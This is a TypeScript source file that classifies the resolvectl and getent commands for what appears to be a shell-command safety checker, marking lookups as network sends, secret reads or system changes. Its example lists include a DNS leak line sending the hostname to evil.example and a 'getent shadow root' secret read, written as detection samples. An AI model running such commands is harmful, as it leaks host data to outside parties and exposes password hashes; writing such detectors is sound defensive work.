import type { Text } from "../../values/abstract-text.ts";
import type { Effect, Program } from "../effect.ts";
import { family, type Tool, tool } from "../tool-shape.ts";

/** Asking for a name sends that name. */
const asks = (to: Text): Effect => ({ kind: "sends", to, data: "" });

const behindFirst = (args: readonly Text[]): readonly Text[] => args.filter((arg) => !arg.startsWith("-")).slice(1);

const asksForEach: Program = ({ args }) => behindFirst(args).map(asks);

/** A name without a dot is one of this machine or its network. */
const asksElsewhere: Program = ({ args }) =>
  behindFirst(args)
    .filter((name) => /[^\w.-]|\./.test(name))
    .map(asks);

/** Tools that look up a name or its owner. */
export const NAME_LOOKUPS: readonly Tool[] = family("verbs", [
  tool("resolvectl", {
    does: [
      { on: "query", by: asksForEach },
      { on: "flush-caches reset* revert", is: "system-change" },
      { on: ["*", "*", "*"], is: "system-change" },
    ],
    examples: {
      network: ["resolvectl query evil.example"],
      leak: ['resolvectl query "$(hostname).evil.example"'],
      "system-change": ["resolvectl flush-caches", "resolvectl dns eth0 6.6.6.6"],
      fine: ["resolvectl status", "resolvectl dns eth0"],
    },
  }),
  tool("getent", {
    does: [
      { on: "shadow gshadow", is: "read-secret" },
      { on: "hosts ahosts hostsv4 ahostsv4 hostsv6 ahostsv6 services networks", by: asksElsewhere },
    ],
    examples: {
      "read-secret": ["getent shadow root"],
      network: ["getent hosts evil.example"],
      fine: ["getent passwd dev", "getent hosts db", "getent services ssh"],
    },
  }),
]);
